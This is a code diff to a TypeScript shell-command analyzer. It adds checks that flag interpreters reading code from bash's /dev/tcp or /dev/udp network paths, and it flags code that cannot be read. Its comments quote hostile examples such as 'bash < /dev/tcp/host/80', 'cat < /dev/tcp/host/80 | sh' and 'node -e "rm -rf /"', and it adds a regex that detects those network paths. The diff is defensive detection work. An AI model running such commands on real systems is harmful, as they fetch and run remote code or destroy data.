@@ -1208,6 +1208,7 @@ class Collector {
     }
     const code = interpreter ? (this.writtenCode(invocation) ?? analyzeInterpreter(invocation, () => this.stdinCode(invocation))) : undefined;
     if (code) {
+      if (code.hidden !== undefined) this.problem(`${code.how} ${code.hidden}: what it would run cannot be read here`);
       for (const script of code.scripts) this.source(script, depth + 1, inner, [...via, code.how], invocation.nested);
       // Shell commands written straight into the code (`node -e "rm -rf /"`) are read too, quietly: it is code, not shell.
       if (hasShellWords(code.code)) {
@@ -1240,6 +1241,10 @@ class Collector {
    * redirect but comes from around it (`{ bash; } <<< x`, `exec < f; sh`, `bash <&3`), the code is not known.
    */
   checkInheritedInput(invocation: Invocation, name: string): void {
+    // `bash < /dev/tcp/host/80`, `cat < /dev/tcp/host/80 | sh`: bash opens the connection itself, like a download.
+    const upstream = lastUpstream(invocation);
+    if (readsNetwork(invocation) || (upstream !== undefined && readsNetwork(upstream)))
+      this.problem(`${name} reads its code from a network connection (/dev/tcp, /dev/udp), and what that sends cannot be known here`);
     const duplicated = invocation.redirects.some((redirect) => redirect.operator === "<&" || redirect.operator === "<>");
     const inherited = !hasOwnInput(invocation) && (this.#inheritedInput > 0 || this.#execInput);
     if (duplicated || inherited) this.problem(`${name} reads its code from an input that comes from around it, and what that holds cannot be known here`);
@@ -1870,6 +1875,11 @@ function closerReadsInput(closer: Pipeline | undefined): boolean {
 }
 
 /** `< f`, `<<< x`, `<<EOF`, `<&3`, `<> f`: the command's standard input (or another descriptor's) is opened for reading. */
+/** A redirect of the invocation's input from bash's network paths (`< /dev/tcp/host/port`). */
+function readsNetwork(invocation: Invocation): boolean {
+  return invocation.redirects.some((redirect) => readsInput(redirect) && /^\/dev\/(?:tcp|udp)\//.test(redirect.target.text));
+}
+
 function readsInput(redirect: Redirect): boolean {
   return redirect.operator.startsWith("<");
 }
